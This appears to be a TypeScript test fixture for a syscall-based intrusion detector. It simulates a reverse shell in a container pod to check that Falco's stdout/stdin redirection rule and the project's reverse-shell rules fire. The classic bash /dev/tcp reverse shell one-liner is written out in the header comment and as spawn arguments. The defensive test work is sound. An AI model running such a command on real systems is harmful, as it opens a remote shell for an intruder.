/**
 * Stable rule without an event-generator action: "Redirect STDOUT/STDIN to
 * Network Connection in Container". The textbook reverse shell:
 * `bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'` in a pod: bash
 * connects, puts the socket on stdout, stderr and stdin, and execs an
 * interactive bash.
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { podShell } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco_rules.yaml', rule: 'Redirect STDOUT/STDIN to Network Connection in Container' },
  tiercel: ['Reverse Shell', 'Shell Opened Network Connection'],
};

export default function build(s: Scenario): void {
  const { shell } = podShell(s, {
    name: 'api', id: 'a11ce0ff1cfa', image: 'docker.io/library/python:3.12-slim',
    main: { exe: 'python3', exepath: '/usr/local/bin/python3.12', args: ['-m', 'gunicorn', 'app:app'] },
  });
  const bash = shell.spawn({ exe: 'bash', exepath: '/usr/bin/bash', args: ['-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'] });
  const sock = bash.connect('127.0.0.1', 4444);
  bash.dup2(sock, 1);
  bash.dup2(1, 2);
  bash.dup2(1, 0);
  bash.close(sock);
  bash.exec({ exe: 'bash', exepath: '/usr/bin/bash', args: ['-i'] });
}
